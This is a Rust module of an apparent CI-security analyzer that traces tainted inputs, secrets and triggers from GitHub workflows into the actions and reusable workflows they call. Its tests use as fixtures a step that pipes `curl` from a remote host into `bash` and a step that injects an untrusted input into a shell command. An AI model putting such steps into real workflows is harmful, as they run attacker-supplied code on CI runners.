//! Findings across files: a workflow's `with:` values flow into the `inputs.*` of the local
//! actions and reusable workflows it calls, and those run under its triggers. Each callee is
//! analysed as each caller calls it; what that adds to its findings alone (an injection a
//! tainted input makes severe, a finding the caller's trigger makes possible) is reported in
//! the callee, where the danger executes, naming the caller.

use std::collections::{HashMap, VecDeque};
use std::ops::Range;
use std::sync::Arc;

use ropey::Rope;

use super::{Analyzer, FileLinks, Related, Report, Reported, tiling, too_large};
use crate::model::call::{Call, GivenSecrets, PassedHead, PassedInput, Returned, ReturnedOutput};
use crate::model::contexts::{JobList, Scope, Taint};
use crate::model::github::{Event, Input, Job, Step, Triggers, Uses, Workflow};
use crate::model::interface::WorkflowSecrets;
use crate::model::kind::FileKind;
use crate::model::references::{self, Reference, ReferenceKind};
use crate::model::untrusted_code;
use crate::rules::{RuleOptions, Severity};
use crate::syntax::Source;
use crate::syntax::span::{Bases, Span};

/// A callee is analysed once per tainted input; more inputs than this are not followed.
const MAX_INPUTS_PER_CALL: usize = 16;

/// A file of the workspace: its path from the workspace root, its kind and its text.
#[derive(Debug, Clone, Copy)]
pub struct CalledFile<'a> {
    pub path: &'a str,
    pub kind: FileKind,
    pub text: &'a str,
}

/// The findings `caller` reaches in the files it calls (or, for GitLab, includes), by the
/// callee's path. `callee` finds the files a local reference names (a wildcard include names
/// several), which is the workspace's business.
pub fn reached_from<'a>(
    caller: CalledFile<'_>,
    callee: &dyn Fn(&Reference<Range<usize>>) -> Vec<CalledFile<'a>>,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Vec<(String, Reported)> {
    match caller.kind {
        FileKind::GithubWorkflow => called_from(caller, callee, options, analyses),
        FileKind::GitlabCi => super::includes::included_from(caller, callee, options, analyses),
        FileKind::GithubAction => Vec::new(),
    }
}

fn called_from<'a>(
    caller: CalledFile<'_>,
    callee: &dyn Fn(&Reference<Range<usize>>) -> Vec<CalledFile<'a>>,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Vec<(String, Reported)> {
    // Kept with the callees' reads: a reusable workflow may be a caller too.
    let Some(read) = analyses.model(caller) else { return Vec::new() };
    let (workflow, bases) = (&read.workflow, &read.bases);
    let jobs = JobList(&workflow.jobs);
    // A reusable caller runs under triggers this file does not know.
    let triggers = &workflow.header.triggers;
    let triggers = (!triggers.has(&Event::WorkflowCall)).then(|| Call::passed_triggers(triggers));
    let line_of = |span| read.line_of(span);
    let sites: Vec<(CallSite<'_>, CalledFile<'a>)> = call_sites(workflow)
        .into_iter()
        .filter_map(|site| {
            let range = bases.resolve(site.uses.span)?;
            let reference = references::of_uses(site.uses, site.local_kind())?;
            let file = callee(&reference.placed(range)).into_iter().next()?;
            Some((site, file))
        })
        .collect();
    // What each call returns, read first without what the others return, so that an output
    // of one call passed to another is followed one call further.
    let mut first = Returned::default();
    for (site, file) in &sites {
        let scope = site.scope(workflow, &jobs).with_untrusted_contexts(options.untrusted_contexts());
        let passed = passed_at(site, &scope, &line_of);
        let call = Call { inputs: text_inputs(&passed), ..site.call(*file, triggers.clone()) };
        first
            .outputs
            .extend(returned_outputs(*file, site, &call, options, analyses).into_iter().map(|back| back.output));
    }
    let mut reached = Vec::new();
    let mut returns = Vec::new();
    for (site, file) in &sites {
        let scope = site
            .scope(workflow, &jobs)
            .with_untrusted_contexts(options.untrusted_contexts())
            .with_returned(Some(&first));
        let passed = passed_at(site, &scope, &line_of);
        let call = Call { inputs: text_inputs(&passed), ..site.call(*file, triggers.clone()) };
        returns.extend(returned_outputs(*file, site, &call, options, analyses));
        let from = CallerSide {
            path: caller.path,
            line: line_of(site.uses.span).unwrap_or_default(),
            triggers: triggers.clone(),
            secrets: call.secrets,
        };
        reached.extend(
            reached_in(*file, &from, passed, options, analyses)
                .into_iter()
                .map(|finding| (file.path.to_owned(), finding)),
        );
    }
    reached.extend(returned_to(caller, returns, options, analyses));
    reached
}

/// What `site` passes that the callee's analysis as called follows, each with the 0-based
/// line of its value: attacker-chosen text (as `scope` reads it) and pull request heads.
fn passed_at(site: &CallSite<'_>, scope: &Scope<'_>, line_of: &dyn Fn(Span) -> Option<usize>) -> Vec<(Passed, usize)> {
    let earlier = site.step.map_or(&[][..], |step| &site.job.steps[..step.index]);
    site.with
        .iter()
        .filter_map(|input| Some((input, input.value.as_ref()?)))
        .flat_map(|(input, value)| {
            let name = input.name.value.clone();
            let taint = scope.taint_of_text(value).map(|taint| Passed::Text(PassedInput { name: name.clone(), taint }));
            let head = untrusted_code::head_named(value, earlier).map(|head| Passed::Head(PassedHead { name, head }));
            taint.into_iter().chain(head).zip(line_of(value.span))
        })
        .take(MAX_INPUTS_PER_CALL)
        .collect()
}

/// The attacker-chosen text among what a call passes.
fn text_inputs(passed: &[(Passed, usize)]) -> Vec<PassedInput> {
    passed
        .iter()
        .filter_map(|(passed, _)| match passed {
            Passed::Text(input) => Some(input.clone()),
            Passed::Head(_) => None,
        })
        .collect()
}

/// An output of a called reusable workflow that holds a tainted value, and where.
struct Return {
    output: ReturnedOutput,
    /// The callee's path, and the 0-based line of the output's `value:`.
    path: String,
    line: usize,
}

/// The outputs of the reusable workflow `file` that hold a value someone other than the
/// maintainers can choose when the job of `site` calls it as `call` says.
fn returned_outputs(
    file: CalledFile<'_>,
    site: &CallSite<'_>,
    call: &Call,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Vec<Return> {
    if site.step.is_some() {
        return Vec::new();
    }
    let Some(model) = analyses.model(file) else { return Vec::new() };
    let workflow = &model.workflow;
    let Some(trigger) = workflow.header.triggers.find(&Event::WorkflowCall) else { return Vec::new() };
    let jobs = JobList(&workflow.jobs);
    let scope = Scope::workflow_outputs(&workflow.header, &jobs)
        .with_untrusted_contexts(options.untrusted_contexts())
        .with_call(Some(call));
    let job = &site.job.id.value;
    trigger
        .outputs
        .iter()
        .filter_map(|output| {
            let value = output.value.as_ref()?;
            let taint: Taint = scope.taint_of_text(value)?;
            Some(Return {
                output: ReturnedOutput { job: job.to_owned(), name: output.name.value.clone(), taint },
                path: file.path.to_owned(),
                line: model.line_of(value.span)?,
            })
        })
        .collect()
}

/// The findings of `caller` that exist because the reusable workflows it calls return
/// tainted outputs, each naming the output that raised it; reported in the caller, where
/// the value is used.
fn returned_to(
    caller: CalledFile<'_>,
    returns: Vec<Return>,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Vec<(String, Reported)> {
    if returns.is_empty() {
        return Vec::new();
    }
    let alone = analyses.report(caller, options.clone());
    let mut reached = Vec::new();
    for back in returns.into_iter().take(MAX_INPUTS_PER_CALL) {
        let (name, origin) = (back.output.name.clone(), back.output.taint.origin.clone());
        let note =
            format!("returned by `{}:{}` as its output `{name}`, which holds `{origin}`", back.path, back.line + 1);
        let related = Related { path: back.path, line: back.line, message: format!("returns `{origin}` as `{name}`") };
        let report = analyses.report(caller, options.for_returned(Returned { outputs: vec![back.output] }));
        for finding in raised(&alone, &report) {
            reached.push((caller.path.to_owned(), annotated(finding, &note, related.clone())));
        }
    }
    reached
}

/// Where a callee is called: a job that calls a reusable workflow, or a step that uses an
/// action.
struct CallSite<'a> {
    job: &'a Job,
    step: Option<&'a Step>,
    uses: &'a Uses,
    with: &'a [Input],
}

impl CallSite<'_> {
    /// The call as `file` gets it, under `triggers`, before the inputs: a reusable workflow
    /// gets the secrets its calling job passes; an action, none this way.
    fn call(&self, file: CalledFile<'_>, triggers: Option<Triggers>) -> Call {
        let secrets =
            (self.step.is_none() && file.kind == FileKind::GithubWorkflow).then(|| GivenSecrets::of(self.job));
        Call { triggers, secrets, ..Call::default() }
    }

    fn local_kind(&self) -> ReferenceKind {
        if self.step.is_some() { ReferenceKind::LocalAction } else { ReferenceKind::LocalWorkflow }
    }

    /// Where the `with:` values are read.
    fn scope<'s>(&'s self, workflow: &'s Workflow, jobs: &'s JobList<'s>) -> Scope<'s> {
        match self.step {
            Some(step) => Scope::workflow_step(&workflow.header, self.job, step.index, jobs),
            None => Scope::workflow_job(&workflow.header, self.job, jobs),
        }
    }
}

fn call_sites(workflow: &Workflow) -> Vec<CallSite<'_>> {
    let mut sites = Vec::new();
    for job in &workflow.jobs {
        if let Some(uses) = &job.uses {
            sites.push(CallSite { job, step: None, uses, with: &job.with });
        }
        for step in &job.steps {
            if let Some(uses) = &step.uses {
                sites.push(CallSite { job, step: Some(step), uses, with: &step.with });
            }
        }
    }
    sites
}

/// What a caller passes that the callee's analysis as called follows: attacker-chosen
/// text, or the name of a pull request's head.
enum Passed {
    Text(PassedInput),
    Head(PassedHead),
}

/// The caller, as the callee's findings name it.
struct CallerSide<'a> {
    path: &'a str,
    /// The 0-based line of its `uses:`.
    line: usize,
    triggers: Option<Triggers>,
    /// The secrets it gives a reusable workflow.
    secrets: Option<GivenSecrets>,
}

impl CallerSide<'_> {
    /// What it gives its callee before any input: its triggers and its secrets. The triggers
    /// are sorted, so that callers that list the same events in another order share the
    /// callee's analyses (6% of them in the corpus).
    fn given(&self) -> Call {
        let triggers = self.triggers.as_ref().map(Triggers::sorted);
        Call { triggers, secrets: self.secrets.clone(), ..Call::default() }
    }
}

/// The findings of `file` as `caller` calls it that it does not have alone: first under the
/// caller's triggers, then with each tainted input or pull request head in turn, so that each
/// finding names what raised it.
fn reached_in(
    file: CalledFile<'_>,
    caller: &CallerSide<'_>,
    passed: Vec<(Passed, usize)>,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Vec<Reported> {
    let mut reached = Vec::new();
    // What the caller gives is named in the findings it decides, where there are secrets to give.
    let reads = caller.secrets.is_some() && analyses.reads_secrets(file);
    let alone = analyses.report(file, options.clone());
    let under_triggers = match &caller.triggers {
        Some(triggers) => {
            let call = caller.given();
            let report = analyses.report(file, options.for_call(call.clone()));
            let place = analyses.trigger_place(file);
            let raised: Vec<Reported> = raised(&alone, &report)
                .filter(|finding| place.as_ref().is_none_or(|place| !place.contains(&finding.range.start)))
                .collect();
            // The contrast is an analysis of its own: made only where it can name something.
            let contrast =
                (reads && !raised.is_empty()).then(|| secrets_contrast(file, &call, options, analyses)).flatten();
            let names: Vec<String> =
                triggers.events.iter().map(|trigger| format!("`{}`", trigger.event.name())).collect();
            let note =
                format!("reached from `{}:{}`, which runs on {}", caller.path, caller.line + 1, names.join(", "));
            let related = format!("runs this on {}", names.join(", "));
            for finding in raised {
                let note = format!("{note}{}", given_note(contrast.as_ref(), &finding));
                reached.push(annotated(
                    finding,
                    &note,
                    Related { path: caller.path.to_owned(), line: caller.line, message: related.clone() },
                ));
            }
            report
        }
        None => alone,
    };
    for (input, line) in passed {
        let given = caller.given();
        let (name, origin, call) = match input {
            Passed::Text(input) => {
                (input.name.clone(), input.taint.origin.clone(), Call { inputs: vec![input], ..given })
            }
            Passed::Head(head) => (head.name.clone(), head.head.clone(), Call { heads: vec![head], ..given }),
        };
        let report = analyses.report(file, options.for_call(call.clone()));
        let raised: Vec<Reported> = raised(&under_triggers, &report).collect();
        let contrast =
            (reads && !raised.is_empty()).then(|| secrets_contrast(file, &call, options, analyses)).flatten();
        let note = format!("reached from `{}:{}` with `{origin}`", caller.path, line + 1);
        let related = format!("passes `{origin}` as `inputs.{name}`");
        for finding in raised {
            let note = format!("{note}{}", given_note(contrast.as_ref(), &finding));
            reached.push(annotated(
                finding,
                &note,
                Related { path: caller.path.to_owned(), line, message: related.clone() },
            ));
        }
    }
    reached
}

/// The analyses of callees as they are called (or included), kept while one workspace is
/// read, or while the editor runs: many jobs call the same action the same way, every
/// caller's view starts from the callee alone, and a keystroke in a caller changes at most
/// one way it calls. A callee's reports are dropped when its text changes.
#[derive(Default)]
pub struct CalleeAnalyses {
    by_path: HashMap<String, Analysed>,
}

/// How many ways of calling one callee are remembered; typing in a caller's `with:` makes a
/// new one at each keystroke, so the oldest go.
const MAX_ANALYSES_PER_CALLEE: usize = 32;

/// A callee's reports, made from `text`.
#[derive(Default)]
struct Analysed {
    /// A copy: comparing texts is much cheaper than hashing them, which this did at every
    /// question asked of a callee (1% of a batch check's instructions).
    text: Box<str>,
    reports: VecDeque<AnalysedAs>,
    /// Its workflow model, read the first time one is asked for (`None` inside for a file
    /// that is not a workflow).
    model: Option<Option<Arc<WorkflowRead>>>,
    /// The text parsed once for all its reports and its model.
    parsed: Option<ParsedCallee>,
}

impl Analysed {
    /// Its report under `options`, if one was made.
    fn report(&self, options: &RuleOptions) -> Option<Arc<Report>> {
        self.reports.iter().find(|(seen, _)| seen == options).map(|(_, report)| Arc::clone(report))
    }

    /// Keeps `report` as its report under `options`, forgetting the oldest past the bound.
    fn remember(&mut self, options: RuleOptions, report: Arc<Report>) {
        if self.reports.len() == MAX_ANALYSES_PER_CALLEE {
            self.reports.pop_front();
        }
        self.reports.push_back((options, report));
    }
}

/// A callee's text parsed, and the analyzer that last read it: each way of calling runs the
/// rules again on the units already read.
pub struct ParsedCallee {
    source: Source,
    analyzer: Analyzer,
}

impl ParsedCallee {
    pub(super) fn new(source: Source, analyzer: Analyzer) -> Self {
        Self { source, analyzer }
    }

    fn of(file: CalledFile<'_>) -> Self {
        Self::new(Source::new(file.text, tiling(file.kind)), Analyzer::new(file.kind))
    }

    fn analyze(&mut self, options: Arc<RuleOptions>) -> Report {
        self.analyzer.reconfigure(options);
        self.analyzer.analyze(&mut self.source)
    }
}

/// A workflow's model, with where its units start and its text: what another file's
/// analysis reads of it.
pub struct WorkflowRead {
    workflow: Workflow,
    bases: Bases,
    rope: Rope,
}

impl WorkflowRead {
    pub(super) fn new(workflow: Workflow, bases: Bases, rope: Rope) -> Self {
        Self { workflow, bases, rope }
    }

    /// Whether other workflows can call it.
    pub fn is_callable(&self) -> bool {
        self.workflow.is_callable()
    }

    /// The secrets it takes, if other workflows can call it.
    pub fn secrets(&self) -> Option<WorkflowSecrets> {
        WorkflowSecrets::of(&self.workflow)
    }

    fn of(text: &str) -> Self {
        Self::read(
            &mut Analyzer::with_rules(FileKind::GithubWorkflow, &[]),
            &mut Source::new(text, tiling(FileKind::GithubWorkflow)),
        )
    }

    fn read(analyzer: &mut Analyzer, source: &mut Source) -> Self {
        let (workflow, bases) = analyzer.read_workflow(source);
        Self { workflow, bases, rope: source.rope().clone() }
    }

    /// The 0-based line a span of the workflow starts on.
    fn line_of(&self, span: Span) -> Option<usize> {
        let start = self.bases.resolve(span)?.start;
        Some(self.rope.byte_to_line(start.min(self.rope.len_bytes())))
    }
}

/// A callee's report under the options one call (or inclusion, or none: alone) gives it.
type AnalysedAs = (RuleOptions, Arc<Report>);

impl CalleeAnalyses {
    /// `file` analysed with `options`, which say how it is called or included.
    pub(super) fn report(&mut self, file: CalledFile<'_>, options: RuleOptions) -> Arc<Report> {
        let known = self.known(file);
        if let Some(report) = known.report(&options) {
            return report;
        }
        let report = Arc::new(match too_large(file.text.len()) {
            Some(refused) => refused,
            None => known.parsed.get_or_insert_with(|| ParsedCallee::of(file)).analyze(Arc::new(options.clone())),
        });
        known.remember(options, Arc::clone(&report));
        report
    }

    /// Takes `report` as `file`'s analysis with `options`, made elsewhere.
    pub fn seed_report(&mut self, file: CalledFile<'_>, options: RuleOptions, report: Arc<Report>) {
        let known = self.known(file);
        if known.report(&options).is_none() {
            known.remember(options, report);
        }
    }

    /// Takes `parsed` as `file`'s text parsed, by an analysis made elsewhere.
    pub fn seed_parsed(&mut self, file: CalledFile<'_>, parsed: ParsedCallee) {
        self.known(file).parsed.get_or_insert(parsed);
    }

    /// Takes `model` as the workflow `file`'s model, read elsewhere.
    pub fn seed_model(&mut self, file: CalledFile<'_>, model: Arc<WorkflowRead>) {
        if file.kind == FileKind::GithubWorkflow {
            self.known(file).model.get_or_insert(Some(model));
        }
    }

    /// `file`'s workflow model, or `None` when it is not a workflow.
    fn model(&mut self, file: CalledFile<'_>) -> Option<Arc<WorkflowRead>> {
        if file.kind != FileKind::GithubWorkflow || too_large(file.text.len()).is_some() {
            return None;
        }
        let known = self.known(file);
        let Analysed { model, parsed, .. } = known;
        model
            .get_or_insert_with(|| {
                let ParsedCallee { source, analyzer } = parsed.get_or_insert_with(|| ParsedCallee::of(file));
                Some(Arc::new(WorkflowRead::read(analyzer, source)))
            })
            .clone()
    }

    /// Where a reusable workflow's analysis as called places the caller's triggers: findings
    /// there are about the caller's triggers, which the caller's own analysis reports.
    fn trigger_place(&mut self, file: CalledFile<'_>) -> Option<Range<usize>> {
        let model = self.model(file)?;
        model.bases.resolve(Call::trigger_place(&model.workflow.header)?)
    }

    /// Whether the reusable workflow `file` reads or declares secrets its callers give it.
    fn reads_secrets(&mut self, file: CalledFile<'_>) -> bool {
        let secrets = self.model(file).and_then(|model| model.secrets());
        secrets.is_some_and(|secrets| {
            !secrets.declared.is_empty() || !secrets.undeclared.is_empty() || secrets.passes_all_on
        })
    }

    /// What is known of `file`, forgotten if its text changed.
    fn known(&mut self, file: CalledFile<'_>) -> &mut Analysed {
        let known = self.by_path.entry(file.path.to_owned()).or_default();
        if *known.text != *file.text {
            *known = Analysed { text: file.text.into(), ..Analysed::default() };
        }
        known
    }
}

/// The findings of `after` that `before` does not have, or has less severe.
pub(super) fn raised<'r>(before: &'r Report, after: &'r Report) -> impl Iterator<Item = Reported> + 'r {
    after
        .findings
        .iter()
        .filter(move |finding| {
            let severity_before = before
                .findings
                .iter()
                .filter(|own| own.range == finding.range && own.rule == finding.rule)
                .map(|own| own.severity)
                .max();
            severity_before.is_none_or(|severity: Severity| finding.severity > severity)
        })
        .cloned()
}

pub(super) fn annotated(mut finding: Reported, note: &str, related: Related) -> Reported {
    finding.message = format!("{} ({note})", finding.message).into();
    finding.related.push(related);
    finding
}

/// The callee analysed as `call` calls it but giving other secrets (none for some, all for
/// none), to tell the findings the secrets given decide; with the note naming them.
fn secrets_contrast(
    file: CalledFile<'_>,
    call: &Call,
    options: &RuleOptions,
    analyses: &mut CalleeAnalyses,
) -> Option<(Arc<Report>, String)> {
    let given = call.secrets.as_ref()?;
    let other = match given {
        GivenSecrets::Named(named) if named.is_empty() => GivenSecrets::Inherit,
        _ => GivenSecrets::Named(Vec::new()),
    };
    let report = analyses.report(file, options.for_call(Call { secrets: Some(other), ..call.clone() }));
    Some((report, format!("; the calling job {}", given.describe())))
}

/// The note naming what the caller gives, when other secrets would change `finding`.
fn given_note<'c>(contrast: Option<&'c (Arc<Report>, String)>, finding: &Reported) -> &'c str {
    match contrast {
        Some((other, note))
            if !other.findings.iter().any(|own| {
                own.range == finding.range
                    && own.rule == finding.rule
                    && own.severity == finding.severity
                    && own.message == finding.message
            }) =>
        {
            note
        }
        _ => "",
    }
}

/// What a file names in other files and a workflow's name, without running any rule.
pub fn file_links(kind: FileKind, text: &str) -> FileLinks {
    Analyzer::with_rules(kind, &[]).analyze_once(&mut Source::new(text, tiling(kind))).links()
}

/// A workflow's `name:`, which `workflow_run` triggers name it by.
pub fn workflow_name(text: &str) -> Option<String> {
    WorkflowRead::of(text).workflow.header.name.as_ref().map(|name| name.value.clone())
}

/// What a reusable workflow takes from its callers, or `None` when it cannot be called.
pub fn workflow_secrets(text: &str) -> Option<WorkflowSecrets> {
    WorkflowRead::of(text).secrets()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_callees_analyses_are_kept_until_its_text_changes() {
        let mut analyses = CalleeAnalyses::default();
        let action = |text| CalledFile { path: "action.yml", kind: FileKind::GithubAction, text };
        let safe = "runs:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n";
        let unsafe_text =
            "runs:\n  using: composite\n  steps:\n    - run: curl -s https://x.sh | bash\n      shell: bash\n";
        let first = analyses.report(action(safe), RuleOptions::default());
        assert!(
            Arc::ptr_eq(&first, &analyses.report(action(safe), RuleOptions::default())),
            "the same text is not analysed twice"
        );
        let edited = analyses.report(action(unsafe_text), RuleOptions::default());
        assert!(
            first.findings.is_empty() && !edited.findings.is_empty(),
            "an edited callee is analysed again: {edited:?}"
        );
        for name in 0..2 * MAX_ANALYSES_PER_CALLEE {
            analyses
                .report(action(unsafe_text), RuleOptions::default().with_untrusted_contexts([format!("env.V{name}")]));
        }
        assert_eq!(analyses.by_path["action.yml"].reports.len(), MAX_ANALYSES_PER_CALLEE);
    }

    #[test]
    fn a_callee_parsed_by_its_own_check_is_analysed_as_called_like_one_parsed_here() {
        let text = "inputs:\n  title:\n    required: true\nruns:\n  using: composite\n  steps:\n    - run: echo \"${{ inputs.title }}\"\n      shell: bash\n";
        let action = CalledFile { path: "action.yml", kind: FileKind::GithubAction, text };
        let checked = super::super::analyze_text_for_workspace(action.kind, text.to_owned(), Arc::default());
        let parsed = checked.parsed.expect("an action's parse is kept for its callers");
        let as_called = RuleOptions::default().with_untrusted_contexts(["inputs.title".to_owned()]);
        let mut seeded = CalleeAnalyses::default();
        seeded.seed_parsed(action, parsed);
        let from_check = seeded.report(action, as_called.clone());
        let fresh = CalleeAnalyses::default().report(action, as_called);
        assert!(!fresh.findings.is_empty(), "the tainted input is injected: {fresh:?}");
        assert_eq!(from_check.findings, fresh.findings);
    }
}
